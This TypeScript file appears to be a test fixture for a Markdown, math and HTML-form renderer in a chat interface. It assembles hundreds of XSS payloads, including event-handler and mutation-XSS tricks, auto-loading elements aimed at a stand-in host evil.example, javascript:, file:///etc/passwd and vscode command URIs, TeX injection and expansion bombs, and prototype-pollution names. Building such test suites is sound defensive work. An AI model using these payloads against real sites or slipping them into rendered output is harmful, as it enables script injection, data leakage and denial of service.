import { payloads } from './payloads.ts';

/** Where an attack would try to send something; no request may ever go there. */
const evil = 'https://evil.example/x';

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onbegin',
  'onpageshow',
];
const tags = [
  'img src=x',
  'svg',
  'video src=x autoplay',
  'audio src=x autoplay',
  'body',
  'iframe src=about:blank',
  'input autofocus',
  'details open',
  'object data=x',
  'math',
  'select autofocus',
  'a href=x tabindex=1 autofocus',
];

/** Elements that would load something by themselves. */
const loading = [
  `<img srcset="${evil} 1x">`,
  `<picture><source srcset="${evil}"><img></picture>`,
  `<video poster="${evil}"></video>`,
  `<input type=image src="${evil}">`,
  `<body background="${evil}">`,
  `<table background="${evil}"><tr><td>x</td></tr></table>`,
  `<link rel="preconnect" href="${evil}">`,
  `<link rel="dns-prefetch" href="//evil.example">`,
  `<link rel="modulepreload" href="${evil}">`,
  `<script type="module">import "${evil}"</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${evil}"]}]}</script>`,
  `<style>@font-face{font-family:x;src:url(${evil})}*{font-family:x}</style>`,
  `<style>li{list-style:url(${evil})}</style>`,
  `<svg><feImage href="${evil}"/></svg>`,
  `<svg><foreignObject><iframe src="${evil}"></iframe></foreignObject></svg>`,
  `<svg><animate attributeName=href values="javascript:alert(1)"/></svg>`,
  `<a ping="${evil}" href="https://ok.example">x</a>`,
  `<track src="${evil}" default>`,
  `<portal src="${evil}"></portal>`,
  `<fencedframe src="${evil}"></fencedframe>`,
  `<frameset><frame src="${evil}"></frameset>`,
  `<template shadowrootmode="open"><img src="${evil}"></template>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style>`,
];

const addresses = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  'java&#x09;script:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&#58;alert(1)',
  '%6aavascript:alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'file:///etc/passwd',
  'file://evil.example/share',
  '\\\\evil.example\\share\\x.png',
  '//evil.example/x.png',
  'command:workbench.action.quit',
  'command:workbench.action.terminal.sendSequence?%7B%7D',
  'vscode://file/etc/passwd',
  'vscode-webview://x/index.html',
  'vscode-file://vscode-app/etc/passwd',
  'vscode-resource:/etc/passwd',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'ws://evil.example/x',
  'ftp://evil.example/x',
  'tel:+1',
  'sms:+1',
  'ms-officecmd:x',
  'search-ms:query=x',
  'intent://x#Intent;end',
  'about:blank',
  'view-source:https://evil.example',
  'https://user:pass@evil.example/x',
  'https://evil.example/?q=secret&b=1',
];
const addressed: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x][r] ![y][r]\n\n[r]: <${address}>`,
  (address) => `<${address}>`,
  (address) => `$\\href{${address}}{x}$`,
];

/** Formulas that would load, link, style, take over the page, or never end. */
const formulas = [
  '\\includegraphics{https://evil.example/x.png}',
  '\\url{javascript:alert(1)}',
  '\\class{chat}{x}',
  '\\id{app}{x}',
  '\\style{position:fixed;inset:0}{x}',
  '\\data{x=1}{x}',
  '\\htmlClass{x}{y}',
  '\\htmlData{act=copyCode}{y}',
  '\\color{url(https://evil.example/x)}x',
  '\\textcolor{expression(alert(1))}{x}',
  '\\colorbox{red;background:url(https://evil.example)}{x}',
  '\\fcolorbox{red}{url(//evil.example)}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}',
  '\\rule{100000em}{100000em}',
  '\\kern{-100000em}x',
  '\\raise{100000em}{x}',
  '\\unicode{<img src=x onerror=alert(1)>}',
  '\\text{<img src=x onerror=alert(1)>}',
  '\\text{<script>alert(1)</script>}',
  '\\label{x}\\ref{x}\\tag{<img>}',
  '\\verb|<img src=x onerror=alert(1)>|',
  '\\begin{array}{c}\\href{javascript:alert(1)}{x}\\end{array}',
  '\\operatorname{<svg/onload=alert(1)>}',
  '\\gdef\\__proto__{x}\\constructor',
  '\\mathtip{x}{y}\\toggle{a}{b}\\endtoggle',
];

const inForm = (html: string): string => `<form data-format="json">\n${html}\n<button>Go</button>\n</form>`;
const large = 'x'.repeat(100_000);

/** Attacks by the HTML that becomes controls, and by what is next to it. */
const controls = [
  `<button data-message="pwn" onclick="alert(1)" autofocus onfocus=alert(1) formaction="${evil}" form=x id=app name=app>Go</button>`,
  `<button data-link="javascript:alert(1)">Go</button>`,
  `<button data-link="javascript:alert(1)" data-message="pwn">Go</button>`,
  `<button data-link="https://user:pass@evil.example/x">Go</button>`,
  `<button data-message="a\u202Eb\u{E0041}">Yes\u202E\u200B</button>`,
  `<button data-message="${large}">Go</button>`,
  `<button data-message='"><img src=x onerror=alert(1)>'><img src=x onerror=alert(1)></button>`,
  `<button data-act="copyCode" data-message="&quot;&lt;script&gt;alert(1)&lt;/script&gt;">&lt;img src=x onerror=alert(1)&gt;</button>`,
  '<button data-message="pwn">Go</button>\n'.repeat(500),
  `<form action="${evil}" target=_top onsubmit=alert(1) id=app name=body>\n<input name=a autofocus onfocus=alert(1) formaction="${evil}" list=x>\n<button formaction="${evil}" type=submit>Go</button></form>`,
  ...['__proto__', 'constructor', 'toString', 'x" onfocus="alert(1)', 'innerHTML', 'cookie', 'location'].map((name) =>
    inForm(
      `<label for="${name}">L</label><input type=text name="${name}" value="v"><textarea name='${name}'></textarea>`,
    ),
  ),
  ...['password', 'file', 'image', 'submit', 'reset', 'color', 'button', 'radio', '"><script>alert(1)</script>'].map(
    (type) => inForm(`<input type="${type}" name="a" src="${evil}" accept="*" value="<img src=x onerror=alert(1)>">`),
  ),
  inForm(`<form action="${evil}"><input name=b></form>`),
  inForm('<input name="a">'.repeat(1000)),
  inForm(`<textarea name=a></textarea><img src=x onerror=alert(1)></textarea>`),
  inForm(
    `<input type=select name=a data-options='["<img src=x onerror=alert(1)>", "</option><script>alert(1)</script>", 1, null]'>`,
  ),
  inForm(`<input type=select name=a data-options='{"__proto__":{}}'><input type=select name=b data-options='[`),
  inForm(
    `<script>alert(1)</script><style>*{background:url(${evil})}</style><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  ),
  inForm(
    `<label for=a><img src=x onerror=alert(1)></label><input name=a placeholder='"><img src=x onerror=alert(1)>'>`,
  ),
  `<form><button>${'<form>'.repeat(2000)}`,
  `<details open ontoggle=alert(1) style="position:fixed;inset:0;background:url(${evil})" name=x id=app><summary onclick=alert(1)>S <img src=x onerror=alert(1)></summary>\n\n<img src=x onerror=alert(1)>\n\n</details>`,
  `${'<details><summary>x</summary>\n\n'.repeat(200)}deep`,
  `<details><summary>Thinking...</summary><img src=x onerror=alert(1)></details>done`,
  `<audio src="javascript:alert(1)"></audio>`,
  `<audio src="data:text/html,<script>alert(1)</script>" autoplay></audio>`,
  `<video poster="${evil}" autoplay><source src="${evil}" onerror=alert(1)></video>`,
  `<video src="file:///etc/passwd"></video>`,
];

/** Places in which Markdown is read in another way. */
const places: readonly ((payload: string) => string)[] = [
  (payload) => `- item\n  - ${payload.replaceAll('\n', '\n    ')}`,
  (payload) => `> ${payload.replaceAll('\n', '\n> ')}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll(/[\n|]/g, ' ')} | x |`,
];

const handled = tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=alert(1)>`));
const linked = addresses.flatMap((address) => addressed.map((form) => form(address)));
const calculated = formulas.flatMap((tex) => [`$${tex}$`, `$$\n${tex}\n$$`, `\\(${tex}\\)`]);

/** Attacks, each once: what is tried at all, and that in places where it may be read in another way. */
export const morePayloads: readonly string[] = [
  ...new Set([
    ...payloads,
    ...handled,
    ...loading,
    ...linked,
    ...calculated,
    ...controls,
    ...places.flatMap((place) => payloads.map(place)),
  ]),
];
